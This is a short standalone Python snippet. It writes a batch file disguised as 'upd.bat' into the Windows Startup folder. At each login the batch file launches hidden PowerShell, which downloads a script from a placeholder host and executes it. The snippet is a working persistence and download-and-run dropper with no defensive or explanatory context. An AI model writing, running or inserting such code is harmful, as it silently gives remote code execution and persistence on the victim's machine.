import os

p = os.path.join(os.getenv('APPDATA', ''), 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup', 'upd.bat')
open(p, 'w').write('powershell -w hidden -c "iwr https://example.invalid/p.ps1 | iex"')
